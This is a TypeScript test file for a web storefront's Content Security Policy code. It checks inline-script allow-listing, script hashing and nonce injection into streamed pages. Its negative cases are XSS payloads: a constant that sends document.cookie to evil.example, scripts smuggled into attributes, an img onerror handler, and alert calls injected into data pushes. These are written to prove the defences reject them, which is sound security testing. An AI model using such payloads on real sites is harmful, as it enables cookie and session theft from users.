import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, get, type IncomingMessage, type RequestListener } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { addContentSecurityPolicy } from '@/lib/platform/server/security/content-security-policy';
import { hashInlineScripts } from '@/lib/platform/server/security/finish-page';
import { isAllowedInlineScript } from '@/lib/platform/server/security/inline-scripts';
import { knownScripts, loadKnownScripts } from '@/lib/platform/server/security/known-scripts';
import { NonceStream } from '@/lib/platform/server/security/nonce-stream';
import { RELOAD_ONLINE } from '@/lib/storefront/offline/rules';

const THEME = "try{document.documentElement.classList.remove('dark')}catch{}";
const EARLY = '(function e(a){for(let i=0;i<a;i+=1);})(20000)';
const FIRST = '(self.__next_f=self.__next_f||[]).push([0])';
const push = (text: string) => `self.__next_f.push([1,${JSON.stringify(text).replace(/</g, '\\u003c')}])`;
const inline = (text: string) => `<script>${text}</script>`;
const EVIL = 'fetch("https://evil.example/"+document.cookie)';

const sha = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
const scriptsOf = (headers: readonly (readonly [string, string])[]) =>
  /script-src 'self' ?([^;]*);/.exec(new Map(headers).get('Content-Security-Policy') ?? '')?.[1]?.split(' ') ?? [];

beforeAll(() => {
  const build = mkdtempSync(join(tmpdir(), 'build-'));
  mkdirSync(join(build, 'server/app'), { recursive: true });
  const head = `<head>${inline(EARLY)}${inline(THEME)}<script type="application/ld+json">{}</script></head>`;
  writeFileSync(join(build, 'server/app/_not-found.html'), `<html>${head}<body>${inline(EVIL)}</body></html>`);
  loadKnownScripts(build, [RELOAD_ONLINE]);
  rmSync(build, { recursive: true });
});

describe('which inline scripts a page may run', () => {
  // The longest script that only declares a function. Separate scripts call it.
  const runtime = () => knownScripts().beginnings.find((text) => text.startsWith('$RB=')) ?? '';

  it.each([
    ['data', push('1:"text"\n')],
    ['data with every kind of sign', push('</script><!--<script>\u2028"\\\n\u0000ن😀')],
    ['data in base64', 'self.__next_f.push([3,"AAEC/w=="])'],
    ['the first data', FIRST],
    ['a script of the head', EARLY],
    ['another one', THEME],
    ["the offline page's", RELOAD_ONLINE],
    ["React's clock", 'requestAnimationFrame(function(){$RT=performance.now()});'],
    ["React's call", '$RC("B:0","S:0")'],
    ["React's call with styles", '$RR("B:1","S:1",[["/_next/static/css/a.css","next"]])'],
    ["React's error", '$RX("B:1","1234","a message")'],
    [
      'a shell that fetches its data',
      "__NEXT_CLIENT_RESUME=fetch(location.pathname+'?_rsc=xhdor-Ia_P',{credentials:'same-origin',headers:{'rsc': '1','next-router-prefetch': '1','next-router-segment-prefetch': '/_full'}})",
    ],
  ])('%s', (_, text) => expect(isAllowedInlineScript(text)).toBe(true));

  it("React's runtime, alone and with its first call", () => {
    expect(runtime()).toContain('$RC=function');
    expect(isAllowedInlineScript(runtime())).toBe(true);
    expect(isAllowedInlineScript(`${runtime()}$RC("B:0","S:0")`)).toBe(true);
  });

  it.each([
    ['nothing', ''],
    ['code', EVIL],
    ['code of the body of a page that the build drew', EVIL],
    ['code behind data', `${push('x')};${EVIL}`],
    ['code before data', `${EVIL};${push('x')}`],
    ['code among data', `self.__next_f.push([1,${EVIL}])`],
    ['a call among data', 'self.__next_f.push([1,"a"+alert(1)])'],
    ['a template among data', `self.__next_f.push([1,\`\${alert(1)}\`])`],
    ['two arguments', `self.__next_f.push([1,"a"],alert(1))`],
    ['two lists', 'self.__next_f.push([1,"a"])||alert.call([1])'],
    ['data that opens a script', 'self.__next_f.push([1,"<!--<script>"])'],
    ['data that closes one', 'self.__next_f.push([1,"<\\/script>"])'],
    ['a property of another name', '(self.__next_f=self.__next_f||[]).pop([0])'],
    ['a known script and more', `${THEME};${EVIL}`],
    ['a known script but for its end', THEME.slice(0, -1)],
    ["React's call with code", `$RC("B:0",${EVIL})`],
    ["React's call and code", `$RC("B:0","S:0");${EVIL}`],
    ["React's call and a second list", `$RC("B:0"),alert("S:0")`],
    ['another function', '$RC.constructor("alert(1)")'],
    ["React's name redefined", '$RC=function(){alert(1)}'],
    ['a shell that fetches from elsewhere', "__NEXT_CLIENT_RESUME=fetch('//evil.example')"],
    [
      'a shell that fetches with more',
      "__NEXT_CLIENT_RESUME=fetch(location.pathname+'?_rsc='+document.cookie,{credentials:'same-origin',headers:{'rsc': '1','next-router-prefetch': '1','next-router-segment-prefetch': '/_full'}})",
    ],
  ])('not %s', (_, text) => expect(isAllowedInlineScript(text)).toBe(false));

  it('not what starts as the runtime does', () => {
    expect(isAllowedInlineScript(`${runtime()}${EVIL}`)).toBe(false);
    expect(isAllowedInlineScript(runtime().replace('performance', 'evil'))).toBe(false);
  });
});

describe('a whole page', () => {
  const page = [inline(EARLY), '<h1>متجر</h1>', inline(FIRST), inline(push('1:a\nن')), inline(push('2:b"\\'))];
  const finish = (...parts: string[]) => {
    const { body, headers } = hashInlineScripts(Buffer.from(parts.join('')));
    return { html: body.toString(), scripts: scriptsOf(headers), headers };
  };

  it('names its scripts, and its data is one of them', () => {
    const { html, scripts } = finish(...page);
    const data = `${FIRST};${push('1:a\nن2:b"\\')}`;
    expect(html).toBe(`${inline(EARLY)}<h1>متجر</h1>${inline(data)}`);
    expect(scripts).toEqual([sha(EARLY), sha(data)]);
  });

  it('hands the same data over as before', () => {
    const said = (html: string): string[] => {
      const self: { __next_f?: [number, string?][] } = {};
      for (const [, text] of html.matchAll(/<script>(.*?)<\/script>/gs)) new Function('self', text ?? '')(self);
      return (self.__next_f ?? []).map(([, text = '']) => text);
    };
    const texts = ['1:a', '\u2028\n', 'ن😀', '</script>', '"\\"', '\\u0041'];
    const before = [inline(FIRST), ...texts.map((text) => inline(push(text)))].join('');
    expect(said(finish(before).html).join('')).toBe(texts.join(''));
    expect(said(finish(before).html)).toHaveLength(2);
  });

  it('data that do not stand together stay apart', () => {
    const { html, scripts } = finish(inline(push('a')), '<p></p>', inline(push('b')), inline(EVIL), inline(push('c')));
    expect(html).toBe(`${inline(push('a'))}<p></p>${inline(push('b'))}${inline(EVIL)}${inline(push('c'))}`);
    expect(scripts).toEqual(['a', 'b', 'c'].map((text) => sha(push(text))));
  });

  it('does not name what was smuggled in, in whatever spelling', () => {
    const smuggled = [
      inline(EVIL),
      `<script data-x>${EVIL}</script>`,
      `<SCRIPT>${EVIL}</SCRIPT>`,
      `<script\n>${EVIL}</script >`,
      `<script a=">self.__next_f.push([1,2])</script><script b=">${EVIL}</script>`,
      `<img src=x onerror='${EVIL}'>`,
    ];
    const { scripts, html } = finish(page[0] ?? '', ...smuggled, ...page.slice(1));
    const { scripts: clean } = finish(...page);
    expect(scripts).not.toContain(sha(EVIL));
    for (const script of clean) expect(scripts).toContain(script);
    expect(html).toContain(EVIL);
  });

  it('allows no other inline script, nothing embedded and no other base, frame or target of a form', () => {
    const policy = new Map(finish(...page).headers).get('Content-Security-Policy') ?? '';
    const directives = new Map(policy.split('; ').map((one) => [one.split(' ')[0], one.split(' ').slice(1).join(' ')]));
    expect(directives.get('script-src')).not.toMatch(/unsafe|\*|https?:|data:|blob:|strict-dynamic/);
    for (const name of ['default-src', 'object-src', 'base-uri', 'frame-ancestors'])
      expect(directives.get(name)).toBe("'none'");
    expect(directives.get('form-action')).toBe("'self'");
    expect(policy.length).toBeLessThan(1_000);
  });
});

describe('a page that comes in parts', () => {
  const html = `<head>${inline(EARLY)}</head>ن<script src="/a.js"></script>${inline(EVIL)}${inline(push('ن<'))}<b>< scr</b>`;
  const expected = html
    .replaceAll(inline(EARLY), `<script nonce="N">${EARLY}</script>`)
    .replace(inline(push('ن<')), `<script nonce="N">${push('ن<')}</script>`);

  it.each([1, 2, 3, 7, 30, 1000])('gets its nonces wherever it is cut: %i bytes at a time', (size) => {
    const bytes = Buffer.from(html);
    const stream = new NonceStream('N');
    const parts: Buffer[] = [];
    for (let at = 0; at < bytes.length; at += size) parts.push(stream.push(bytes.subarray(at, at + size)));
    expect(Buffer.concat([...parts, stream.end()]).toString()).toBe(expected);
  });

  it('holds nothing back but what may be a script', () => {
    const stream = new NonceStream('N');
    expect(stream.push(Buffer.from('<p>text</p>')).toString()).toBe('<p>text</p>');
    expect(stream.push(Buffer.from('<b><scr')).toString()).toBe('<b>');
    expect(stream.push(Buffer.from('ipt>self.')).toString()).toBe('');
    expect(stream.push(Buffer.from('__next_f.push([0])</script>x')).toString()).toBe(
      '<script nonce="N">self.__next_f.push([0])</script>x',
    );
  });

  it('gives no nonce to a script that somebody drew into an attribute', () => {
    const stream = new NonceStream('N');
    const text = `<script a=">${push('x')}</script><script b=">${EVIL}</script>`;
    expect(Buffer.concat([stream.push(Buffer.from(text)), stream.end()]).toString()).toBe(text);
  });
});

describe('answers of the framework', () => {
  let close = () => {};
  afterEach(() => close());

  async function ask(listener: RequestListener, method = 'GET'): Promise<{ answer: IncomingMessage; text: string }> {
    const server = createServer((request, response) => {
      addContentSecurityPolicy(response);
      listener(request, response);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    close = () => void server.close();
    const { port } = server.address() as AddressInfo;
    return new Promise((resolve, reject) => {
      get({ port, method, agent: false }, async (answer) => {
        const parts: Buffer[] = [];
        for await (const part of answer) parts.push(part as Buffer);
        resolve({ answer, text: Buffer.concat(parts).toString() });
      }).on('error', reject);
    });
  }
  const policyOf = (answer: IncomingMessage) => String(answer.headers['content-security-policy'] ?? '');
  const page = inline(FIRST) + inline(push('نص'));

  it('a whole page: hashes, and the length is still right', async () => {
    const { answer, text } = await ask((_, response) => {
      response.setHeader('Content-Type', 'text/html; charset=utf-8');
      response.setHeader('Content-Length', Buffer.byteLength(page));
      response.end(page);
    });
    expect(policyOf(answer)).toContain(sha(`${FIRST};${push('نص')}`));
    expect(text).toBe(inline(`${FIRST};${push('نص')}`));
    expect(answer.headers['content-length']).toBe(String(Buffer.byteLength(text)));
  });

  it('a page in parts: another nonce each time, in the header and at its scripts', async () => {
    const nonces = new Set<string>();
    for (let times = 0; times < 2; times += 1) {
      const { answer, text } = await ask((_, response) => {
        response.setHeader('Content-Type', 'text/html');
        response.flushHeaders();
        response.write(inline(FIRST));
        response.write(inline(EVIL));
        response.end(inline(push('x')));
      });
      const nonce = /'nonce-([\w+/=]{24})'/.exec(policyOf(answer))?.[1] ?? '';
      expect(text).toBe(
        (inline(FIRST) + inline(push('x')))
          .replaceAll('<script>', `<script nonce="${nonce}">`)
          .replace('</script>', `</script>${inline(EVIL)}`),
      );
      nonces.add(nonce);
      close();
    }
    expect(nonces.size).toBe(2);
  });

  it('a copy that still holds keeps the policy it came with', async () => {
    const { answer } = await ask((_, response) => {
      response.statusCode = 304;
      response.setHeader('Content-Type', 'text/html');
      response.end();
    });
    expect(policyOf(answer)).toBe('');
  });

  it('a page without its text has a policy as well', async () => {
    const { answer } = await ask((_, response) => {
      response.setHeader('Content-Type', 'text/html');
      response.end();
    }, 'HEAD');
    expect(policyOf(answer)).toContain("script-src 'self';");
  });

  it('anything else is left alone', async () => {
    const { answer, text } = await ask((_, response) => {
      response.setHeader('Content-Type', 'application/json');
      response.setHeader('Content-Length', 2);
      response.end('{}');
    });
    expect([policyOf(answer), text, answer.headers['content-length']]).toEqual(['', '{}', '2']);
  });
});
